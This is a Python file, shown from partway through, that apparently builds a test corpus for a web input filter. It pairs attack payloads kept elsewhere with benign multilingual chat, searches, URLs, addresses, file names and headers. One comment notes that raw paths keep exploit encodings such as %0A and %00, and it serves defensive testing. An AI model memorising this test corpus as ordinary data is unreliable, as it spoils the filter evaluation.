    def is_latin(self, sub: str, payload: str) -> bool:
        return payload in LATIN

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return payload in RAW

    def cycles(self, category: str, sub: str, payload: str) -> tuple[list[str], list[str]]:
        """Raw-byte payloads only where bytes survive as they are: URL-encoded query, form and names."""
        if payload in LATIN:
            return ["query", "form", "param-name"], ["rs-query", "rs-form", "rs-raw-body", "rs-param-name"]
        return list(self.real_cycle), list(self.rs_cycle)

    def _segment(self, p: Put) -> str:
        """A raw path keeps its own percent-encoding (the exploit's %0A, %00)."""
        return self.enc(p.v.lstrip("/"), p.latin, "/%;=:+") if p.raw else super()._segment(p)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same languages, scripts and syntax typed innocently (team chat and bios in Chinese, Russian,
# Portuguese, Indonesian, Turkish, Persian, Vietnamese, Japanese and Arabic; searches for names and products;
# links to local sites; admin-panel notes; profiles with local addresses; upload names in those scripts; headers)
CHAT = [
    # Chinese
    "大家好，我是新来的后端工程师，负责用户目录的接口，请多关照！",
    "明天上午十点开周会，记得把《季度报告》的初稿发到群里",
    "用户反馈搜索「张伟」的时候结果太多了，能不能按部门筛选？",
    "这个接口返回的 JSON 里 name 字段是空的，我查一下是不是导入的时候丢了",
    "代码评审：`// 获取用户列表` 这个注释可以删掉，函数名已经说明了",
    "Vue 模板里直接用 {{ user.name }} 就行，会自动转义，不要用 v-html",
    "PHP 8.2 升级完成了，旧的 create_function 调用都已经改成匿名函数",
    "春节放假安排：2月9日至2月17日，值班表见附件",
    "请问导出的 CSV 用 Excel 打开中文乱码怎么办？用 UTF-8 BOM 保存就好了",
    "我们的网站在百度上搜不到，是不是 robots.txt 写错了？",
    # Russian
    "Всем привет! Завтра обновляем сервер каталога, ожидается простой около 15 минут",
    "Коллеги, кто может посмотреть «отчёт за квартал»? Там цифры не сходятся",
    "В шаблоне Blade используйте {{ $user->name }}, а не {!! !!}, иначе будет XSS",
    "Поиск по фамилии «Иванов» выдаёт 40 человек, добавьте фильтр по отделу",
    "# проверка: у всех ли пользователей заполнен email\nSELECT count(*) FROM users WHERE email IS NULL;",
    "Битрикс обновили до последней версии, кэш сбросили",
    "Кто-нибудь знает, почему письма уходят в кодировке Windows-1251?",
    "Отпуск с 1 по 14 августа, по срочным вопросам пишите Сергею",
    # Portuguese (Brazil)
    "Bom dia pessoal! Alguém sabe por que o login pelo Slack está pedindo senha de novo?",
    "O cliente pediu para exportar a lista de usuários com CPF, mas isso não pode sair do sistema",
    "Reunião de alinhamento às 14h, pauta: migração do PHP 7.4 para o 8.3",
    "Dica: no Laravel use {{ $nome }} em vez de {!! $nome !!} quando o texto vem do usuário",
    "A busca por \"João\" não encontra \"Joao\" sem acento, dá pra normalizar?",
    "Feriado de Carnaval: segunda e terça sem expediente 🎉",
    "Subi a correção do formulário de cadastro, agora o campo endereço aceita 200 caracteres",
    # Indonesian
    "Selamat pagi semua, server direktori akan di-restart jam 22.00 WIB",
    "Tolong cek laporan bulanan, ada data pengguna yang dobel",
    "Pakai Alpine.js untuk dropdown-nya saja, tidak perlu Vue untuk halaman sekecil ini",
    "Kenapa pencarian nama \"Siti\" hasilnya kosong? Padahal datanya ada",
    "// ambil data pengguna dari API\nconst res = await fetch('/api/users?q=budi');",
    "Cuti bersama Lebaran mulai tanggal 8, jangan lupa isi form cuti",
    # Turkish
    "Günaydın! Bugün saat 15:00'te sprint planlaması var, herkes katılabilir mi?",
    "Kullanıcı arama ekranında \"Şükrü\" yazınca sonuç gelmiyor, Türkçe karakter sorunu olabilir",
    "PHP'de $_GET ile gelen veriyi doğrudan veritabanına yazmayın, önce doğrulayın",
    "Yeni çalışan listesini Excel olarak yükledim, kontrol eder misiniz?",
    "Bayramda ofis kapalı olacak, acil durumlar için nöbet listesine bakın",
    "Laravel projesinde {{ }} kullanıyoruz, ham HTML basmıyoruz, merak etmeyin",
    # Persian
    "سلام به همه، جلسه هفتگی فردا ساعت ۱۰ صبح برگزار می‌شود",
    "لطفاً گزارش «فروش ماهانه» را تا پنجشنبه ارسال کنید",
    "جستجوی نام «محمد رضایی» نتیجه‌ای نمی‌دهد، لطفاً بررسی کنید",
    "نوروز مبارک! دفتر از ۱ تا ۴ فروردین تعطیل است",
    "// دریافت فهرست کاربران\n$users = User::where('active', 1)->get();",
    # Vietnamese
    "Chào cả nhà, chiều nay 3 giờ họp về kế hoạch quý 3 nhé",
    "Tìm kiếm tên \"Nguyễn Văn An\" bị lỗi dấu, ai xem giúp với",
    "Mình đã cập nhật trang hồ sơ, giờ có thể đổi ảnh đại diện rồi",
    "# lấy danh sách người dùng\nusers = client.get('/api/users', params={'q': 'an'})",
    "Tết nghỉ từ 28 tháng Chạp đến mùng 6, ai trực thì đăng ký trong sheet",
    "Bên khách hàng hỏi có hỗ trợ đăng nhập bằng Zalo không",
    # Japanese
    "お疲れ様です。明日のリリースは14時からです。",
    "「文字化け」が発生しています。Shift_JISではなくUTF-8で保存してください。",
    "検索で「山田」と入力すると結果が多すぎるので、部署で絞り込めるようにしたいです",
    "<br>タグがそのまま表示されてしまう件、エスケープ処理を確認します",
    "Vue の {{ message }} は自動でエスケープされるので v-html は使わないでください",
    "// ユーザー一覧を取得する\nconst users = await api.get('/api/users');",
    # Arabic
    "صباح الخير جميعاً، سيتم تحديث النظام الليلة الساعة العاشرة",
    "من فضلكم راجعوا «تقرير المبيعات» قبل اجتماع الغد",
    "البحث عن اسم \"عبد الله\" يعيد نتائج كثيرة، هل يمكن إضافة فلتر القسم؟",
    "عطلة عيد الفطر من الأحد إلى الخميس، كل عام وأنتم بخير",
    # bios
    "后端开发，PHP/Go，喜欢开源，业余时间写博客。坐标：杭州",
    "Инженер DevOps. Nginx, PHP-FPM, немного Lua. Люблю горы.",
    "Desenvolvedora front-end em São Paulo. Vue, Alpine e café ☕",
    "Programmer dari Bandung, suka ngoprek Laravel dan kopi susu",
    "İstanbul'da yazılım geliştirici. PHP, Symfony, bol bol çay.",
    "برنامه‌نویس وب در تهران، علاقه‌مند به لاراول و ویو",
    "Lập trình viên tại Hà Nội, thích React và phở bò",
    "東京在住のWebエンジニアです。PHPとTypeScriptが好きです。",
    "مهندس برمجيات في دبي، أعمل على واجهات برمجة التطبيقات",
    "Support team, night shift. Я говорю по-русски, falo português, 中文也可以。",
]

SEARCHES = [
    "张伟", "王芳", "李娜", "刘洋", "陈静", "Иванов", "Смирнова", "Кузнецов", "João Silva", "Conceição",
    "Gonçalves", "Budi Santoso", "Siti Nurhaliza", "Dewi", "Şükrü", "Çağlar", "Gülşen", "Öztürk", "محمد رضایی",
    "فاطمه", "Nguyễn Văn An", "Trần Thị Bích", "Phạm", "山田太郎", "佐藤", "عبد الله", "أحمد", "مريم", "市场部",
    "отдел продаж", "financeiro", "pemasaran", "İnsan Kaynakları", "منابع انسانی", "phòng kỹ thuật", "営業部",
    "المبيعات", "php", "vue", "laravel", "script", "template", "shell", "wang fang", "o'connor", "d'ávila",
    "müller", "josé", "ali", "li",
]

URLS = [
    "https://www.baidu.com/s?wd=%E7%94%A8%E6%88%B7%E7%9B%AE%E5%BD%95",
    "https://zhuanlan.zhihu.com/p/34567890",
    "https://www.bilibili.com/video/BV1xx411c7mD",
    "https://weibo.com/u/1234567890",
    "https://yandex.ru/search/?text=%D0%BA%D0%B0%D1%82%D0%B0%D0%BB%D0%BE%D0%B3",
    "https://habr.com/ru/articles/712345/",
    "https://vk.com/id12345",
    "https://www.mercadolivre.com.br/notebook-dell-inspiron",
    "https://g1.globo.com/tecnologia/",
    "https://www.tokopedia.com/search?q=laptop",
    "https://www.detik.com/inet",
    "https://www.trendyol.com/laptop-x-c103108",
    "https://www.hurriyet.com.tr/teknoloji/",
    "https://www.digikala.com/search/?q=%D9%84%D9%BE%D8%AA%D8%A7%D9%BE",
    "https://www.aparat.com/v/abc12",
    "https://vnexpress.net/so-hoa",
    "https://zingnews.vn/cong-nghe.html",
    "https://www.yahoo.co.jp/",
    "https://qiita.com/tags/php",
    "https://www.noon.com/uae-en/electronics/",
    "https://www.aljazeera.net/tech/",
    "https://laravel.com/docs/11.x/blade#displaying-data",
    "https://vuejs.org/guide/essentials/template-syntax.html",
    "https://www.php.net/manual/zh/function.htmlspecialchars.php",
    "https://www.php.net/manual/ru/language.variables.superglobals.php",
]

PROSE = [
    "张伟 - 市场部 - 北京",
    "《员工手册》2024 版",
    "「研发中心」新成员",
    "Иванов Сергей, отдел продаж",
    "«Годовой отчёт» — черновик",
    "Conceição, Maria — Financeiro",
    "equipe de suporte (São Paulo)",
    "Budi Santoso - Divisi TI - Jakarta",
    "laporan bulanan Juni",
    "Şükrü Öztürk — İnsan Kaynakları",
    "yıllık izin listesi",
    "محمد رضایی - واحد فروش",
    "فهرست کارمندان جدید",
    "Nguyễn Văn An — phòng kỹ thuật",
    "danh sách nhân viên mới",
    "山田太郎（営業部）",
    "新入社員リスト",
    "عبد الله - قسم المبيعات",
    "قائمة الموظفين الجدد",
    "users who speak 中文 or русский",
    "Vue and Alpine front-end team",
    "PHP guild members",
    "Laravel migration owners",
    "people with script fonts in their names",
    "template owners for onboarding emails",
    "admins in the Istanbul office",
    "team Jakarta + team Hà Nội",
    "Tết / Nowruz / Lebaran holiday calendar",
    "O'Connor, Siobhán",
    "D'Ávila, Luíza",
    "Müller-Lüdenscheidt",
    "王 / Wang / Ван",
    "support@ 中文组",
    "Shift_JIS export users",
    "UTF-8 BOM import issue",
    "renamed: Москва office → Moscow office",
    "bios mentioning PHP",
    "#php-türkiye channel members",
    "#dev-việt-nam channel members",
    "#中文-支持 channel members",
]

PROFILES = [
    ("张伟", "北京市朝阳区建国路88号"),
    ("李娜", "上海市浦东新区世纪大道100号"),
    ("陳美玲", "台北市信義區松仁路7號"),
    ("Иванов Сергей", "Москва, ул. Тверская, д. 7, кв. 12"),
    ("Смирнова Анна", "Санкт-Петербург, Невский пр., 28"),
    ("João da Silva", "Rua das Flores, 123 - São Paulo - SP, 01234-567"),
    ("Maria Conceição", "Av. Atlântica, 1702 - Copacabana, Rio de Janeiro - RJ"),
    ("Budi Santoso", "Jl. Sudirman No. 45, Jakarta Selatan 12190"),
    ("Siti Rahma", "Jl. Asia Afrika No. 8, Bandung"),
    ("Şükrü Öztürk", "Bağdat Cad. No: 12, Kadıköy / İstanbul"),
    ("Gülşen Çelik", "Atatürk Bulvarı No: 5, Çankaya / Ankara"),
    ("محمد رضایی", "تهران، خیابان ولیعصر، پلاک ۱۲"),
    ("فاطمه احمدی", "اصفهان، خیابان چهارباغ"),
    ("Nguyễn Văn An", "12 Tràng Tiền, Hoàn Kiếm, Hà Nội"),
    ("Trần Thị Bích", "45 Lê Lợi, Quận 1, TP. Hồ Chí Minh"),
    ("山田太郎", "東京都千代田区丸の内1-1-1"),
    ("佐藤花子", "大阪府大阪市北区梅田2-2-2"),
    ("عبد الله الأحمد", "شارع الملك فهد، الرياض"),
    ("مريم حسن", "شارع الشيخ زايد، دبي"),
    ("Ali O'Connor", "Dame St 10, Dublin"),
]

UPLOAD_NAMES = [
    "员工名单_2024.xlsx", "季度报告.pdf", "头像.png", "отчёт_за_квартал.pdf", "фото.jpg",
    "relatório final.docx", "currículo João.pdf", "laporan-bulanan-juni.pdf", "foto profil.jpg",
    "fatura_Haziran.pdf", "özgeçmiş.docx", "گزارش ماهانه.pdf", "عکس پرسنلی.jpg", "báo cáo tháng 6.docx",
    "ảnh đại diện.png", "見積書.pdf", "社員名簿.csv", "فاتورة.pdf", "users-export-utf8-bom.csv", "avatar.webp",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/122.0.0.0 YaBrowser/24.4.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Linux; U; Android 12; zh-CN; V2134A Build/SP1A.210812.003) AppleWebKit/537.36 "
                   "(KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/16.3.8.1310 Mobile Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "coc_coc_browser/123.0.240 Chrome/117.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/108.0.0.0 Safari/537.36 QQBrowser/12.4.5.0"),
    ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"),
    ("Accept-Language", "ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en-US;q=0.8"),
    ("Accept-Language", "id-ID,id;q=0.9,en;q=0.8"),
    ("Accept-Language", "tr-TR,tr;q=0.9"),
    ("Accept-Language", "fa-IR,fa;q=0.9,en;q=0.7"),
    ("Accept-Language", "vi-VN,vi;q=0.9,fr;q=0.6"),
    ("Accept-Language", "ja-JP,ja;q=0.9"),
    ("Accept-Language", "ar-SA,ar;q=0.9,en;q=0.6"),
    ("Referer", "https://www.baidu.com/s?wd=%E5%BC%A0%E4%BC%9F"),
    ("Referer", "https://yandex.ru/search/?text=%D0%B8%D0%B2%D0%B0%D0%BD%D0%BE%D0%B2"),
    ("Referer", "https://www.google.com.br/search?q=jo%C3%A3o+silva"),
    ("Referer", "https://www.google.com.tr/search?q=%C5%9F%C3%BCkr%C3%BC"),
    ("Cookie", "session=abc123; lang=zh-CN; tz=Asia%2FShanghai"),
    ("Cookie", "session=abc123; lang=vi; tz=Asia%2FHo_Chi_Minh"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
